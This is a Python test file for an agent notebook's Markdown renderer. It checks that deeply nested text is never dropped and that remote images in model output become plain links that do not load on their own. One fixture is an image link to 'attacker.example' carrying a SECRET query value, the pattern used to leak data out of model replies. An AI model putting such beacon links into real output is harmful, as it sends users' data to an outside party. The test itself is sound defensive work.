"""Model output rendered as Markdown: nothing runs, nothing loads by itself, and no renderer limit hides text."""

from __future__ import annotations

import html
import re

from agent_nb.notebook import render_markdown


def visible_text(markup: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", markup))


def test_text_nested_past_the_renderers_limit_is_shown_not_dropped() -> None:
    nested_list = "".join("  " * i + f"- level {i}\n" for i in range(14)) + "\nThe end of the reply.\n"
    nested_quote = "Before.\n\n" + ">" * 25 + " deep\n\nAfter the quote.\n"
    for text in (nested_list, nested_quote):
        shown = visible_text(render_markdown(text))
        for word in re.findall(r"[A-Za-z]+", text):
            assert word in shown, f"{word!r} was dropped"
        assert "nested deeper than the Markdown renderer goes" in shown


def test_remote_images_become_links_and_nothing_loads_by_itself() -> None:
    markup = render_markdown("![chart](https://attacker.example/?d=SECRET) ![tiny](data:image/png;base64,iVBOR)")
    assert "<img src=\"https://" not in markup and "<img src='https://" not in markup
    assert '<a href="https://attacker.example/?d=SECRET"' in markup and "🖼 chart" in markup
    assert '<img src="data:image/png;base64,iVBOR"' in markup  # inline data loads nothing from anywhere
    link = render_markdown("[docs](https://example.com)")
    assert 'rel="noopener noreferrer nofollow"' in link and 'target="_blank"' in link
